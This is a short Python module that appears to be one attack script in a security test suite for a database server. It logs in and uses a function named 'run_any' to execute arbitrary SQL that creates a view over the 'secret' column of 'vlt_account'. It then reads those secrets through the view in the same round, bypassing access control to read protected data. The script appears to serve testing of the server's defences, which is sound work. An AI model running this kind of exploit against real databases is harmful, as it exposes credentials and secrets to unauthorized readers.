"""Makes a view by a function, and reads it in the same round."""

from attacks.frames import SYNC, ask, whole
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        make = b"SELECT run_any('CREATE VIEW plain_view AS SELECT secret FROM vlt_account')"
        return ask(client, whole(make), whole(b"SELECT secret FROM plain_view"), SYNC)
